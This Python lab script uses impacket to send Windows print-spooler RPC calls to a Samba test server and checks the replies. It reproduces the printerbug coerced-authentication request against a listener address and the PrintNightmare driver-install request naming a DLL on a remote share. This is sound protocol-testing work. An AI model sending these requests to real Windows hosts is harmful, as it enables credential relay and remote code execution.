"""Capture 55, impacket part: SPOOLSS (MS-RPRN) over \\pipe\\spoolss the way
printerbug.py (coerced authentication) and the PrintNightmare scripts
(RpcAddPrinterDriverEx with a driver on a remote share) use it. Samba runs
with a printer, labprinter. 10.0.0.99 does not exist: there is no route to it
in the lab's namespace, so the server cannot call back."""
from impacket.dcerpc.v5 import rprn
from impacket.dcerpc.v5.dtypes import NULL

import lab
from outcomes import (ERROR_ACCESS_DENIED, ERROR_INVALID_LEVEL, ERROR_INVALID_PRINTER_NAME,
                      RPC_S_SERVER_UNAVAILABLE, expect, finish, np)

SERVER = "\\\\%s" % lab.NETBIOS
LISTENER = "\\\\10.0.0.99"
DRIVER_DLL = "\\\\10.0.0.99\\share\\rpcscope.dll"
APD_COPY_ALL_FILES, APD_INSTALL_WARNED_DRIVER = 0x00000004, 0x00008000
PRINTER_ACCESS_USE, SERVER_ALL_ACCESS = 0x00000008, 0x000F0003


def printer_bug(dce, handle):
    """RpcRemoteFindFirstPrinterChangeNotificationEx, as printerbug.py sends it."""
    request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    request["hPrinter"] = handle
    request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
    request["pszLocalMachine"] = LISTENER + "\x00"
    request["pOptions"] = NULL
    return expect("RpcRemoteFindFirstPrinterChangeNotificationEx " + LISTENER,
                  lambda: dce.request(request), RPC_S_SERVER_UNAVAILABLE)


def enum_drivers(dce):
    """RpcEnumPrinterDrivers with no buffer: the size probe that
    hRpcEnumPrinterDrivers sends first (which fails when nothing is installed)."""
    request = rprn.RpcEnumPrinterDrivers()
    request["pName"] = SERVER + "\x00"
    request["pEnvironment"] = "Windows x64\x00"
    request["Level"] = 2
    request["pDrivers"] = NULL
    request["cbBuf"] = 0
    return dce.request(request)


def add_driver(dce):
    """RpcAddPrinterDriverEx level 2, a driver DLL on a remote share (as the
    PrintNightmare scripts send it). Samba accepts only levels 3, 6 and 8."""
    container = rprn.DRIVER_CONTAINER()
    container["Level"] = 2
    container["DriverInfo"]["tag"] = 2
    info = rprn.DRIVER_INFO_2()
    info["cVersion"] = 3
    info["pName"] = "rpcscope driver\x00"
    info["pEnvironment"] = "Windows x64\x00"
    info["pDriverPath"] = DRIVER_DLL + "\x00"
    info["pDataFile"] = DRIVER_DLL + "\x00"
    info["pConfigFile"] = DRIVER_DLL + "\x00"
    container["DriverInfo"]["Level2"] = info
    return expect("RpcAddPrinterDriverEx " + DRIVER_DLL,
                  lambda: rprn.hRpcAddPrinterDriverEx(
                      dce, SERVER + "\x00", container,
                      APD_COPY_ALL_FILES | 0x10 | APD_INSTALL_WARNED_DRIVER), ERROR_INVALID_LEVEL)


def client_info(user):
    """SPLCLIENT_CONTAINER level 1, as a Windows 10 x64 client sends it."""
    container = rprn.SPLCLIENT_CONTAINER()
    container["Level"] = 1
    container["ClientInfo"]["tag"] = 1
    info = rprn.SPLCLIENT_INFO_1()
    info["dwSize"] = 28
    info["pMachineName"] = "rpclab-client\x00"
    info["pUserName"] = user + "\x00"
    info["dwBuildNum"] = 19041
    info["dwMajorVersion"] = 10
    info["dwMinorVersion"] = 0
    info["wProcessorArchitecture"] = 9
    container["ClientInfo"]["pClientInfo1"] = info
    return container


# 1. the lab user
user = lab.USER
dce = np("spoolss", rprn.MSRPC_UUID_RPRN)
server = expect("RpcOpenPrinter " + SERVER, lambda: rprn.hRpcOpenPrinter(dce, SERVER + "\x00"))["pHandle"]
printer_bug(dce, server)
expect("RpcOpenPrinter %s SERVER_ALL_ACCESS" % SERVER,
       lambda: rprn.hRpcOpenPrinter(dce, SERVER + "\x00", accessRequired=SERVER_ALL_ACCESS),
       ERROR_ACCESS_DENIED)
expect("RpcOpenPrinter %s\\no-such-printer" % SERVER,
       lambda: rprn.hRpcOpenPrinter(dce, SERVER + "\\no-such-printer\x00"), ERROR_INVALID_PRINTER_NAME)
expect("RpcOpenPrinterEx %s\\labprinter SERVER_READ" % SERVER,
       lambda: rprn.hRpcOpenPrinterEx(dce, SERVER + "\\labprinter\x00",
                                      pClientInfo=client_info(user)), ERROR_ACCESS_DENIED)
printer = expect("RpcOpenPrinterEx %s\\labprinter PRINTER_ACCESS_USE" % SERVER,
                 lambda: rprn.hRpcOpenPrinterEx(dce, SERVER + "\\labprinter\x00",
                                                accessRequired=PRINTER_ACCESS_USE,
                                                pClientInfo=client_info(user)))["pHandle"]
printer_bug(dce, printer)
expect("RpcEnumPrinters PRINTER_ENUM_LOCAL level 1",
       lambda: rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 1))
expect("RpcGetPrinterDriverDirectory Windows x64",
       lambda: rprn.hRpcGetPrinterDriverDirectory(dce, SERVER + "\x00", "Windows x64\x00", 1))
expect("RpcEnumPrinterDrivers Windows x64 level 2 (none installed)", lambda: enum_drivers(dce))
add_driver(dce)
expect("RpcClosePrinter labprinter", lambda: rprn.hRpcClosePrinter(dce, printer))
expect("RpcClosePrinter server", lambda: rprn.hRpcClosePrinter(dce, server))
dce.disconnect()

# 2. the lab administrator: the server handle with all rights, and the driver again
dce = np("spoolss", rprn.MSRPC_UUID_RPRN, user=lab.ADMIN)
server = expect("RpcOpenPrinter %s SERVER_ALL_ACCESS" % SERVER,
                lambda: rprn.hRpcOpenPrinter(dce, SERVER + "\x00", accessRequired=SERVER_ALL_ACCESS)
                )["pHandle"]
printer_bug(dce, server)
add_driver(dce)
expect("RpcClosePrinter server", lambda: rprn.hRpcClosePrinter(dce, server))
dce.disconnect()
finish()
